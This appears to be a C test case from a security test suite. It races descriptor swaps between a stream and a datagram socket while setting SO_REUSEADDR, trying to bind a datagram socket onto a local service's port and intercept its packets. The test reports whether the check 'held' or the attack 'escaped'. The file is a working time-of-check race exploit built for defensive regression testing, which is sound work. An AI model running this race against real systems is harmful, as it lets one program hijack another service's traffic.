/*
 * SO_REUSEADDR is for streams: while one thread asks for it, another puts now a stream, now a datagram socket in the
 * descriptor's place.
 */
#include "udp_ports.h"

#include <pthread.h>

static int stream_fd, datagram_fd, shown_fd;
static volatile bool ends;

static void *
swap(void *data)
{
	(void)data;
	while (!ends) {
		dup2(stream_fd, shown_fd);
		dup2(datagram_fd, shown_fd);
	}
	return NULL;
}

static int
attack(void)
{
	struct sockaddr_in name = ipv4("127.0.0.1", 7001);
	int one = 1, on = 0;
	socklen_t length = sizeof(on);
	pthread_t thread;

	stream_fd = socket(AF_INET, SOCK_STREAM, 0);
	datagram_fd = socket(AF_INET, SOCK_DGRAM, 0);
	shown_fd = dup(stream_fd);
	pthread_create(&thread, NULL, swap, NULL);
	for (int i = 0; i < 20000 && !on; i++) {
		setsockopt(shown_fd, SOL_SOCKET, SO_REUSEADDR, &one, sizeof(one));
		getsockopt(datagram_fd, SOL_SOCKET, SO_REUSEADDR, &on, &length);
	}
	ends = true;
	pthread_join(thread, NULL);
	if (takes_datagrams(datagram_fd, &name, sizeof(name), &name, sizeof(name)))
		return escaped("took a service's datagrams");
	return on ? escaped("a datagram socket got SO_REUSEADDR") : held("setsockopt");
}
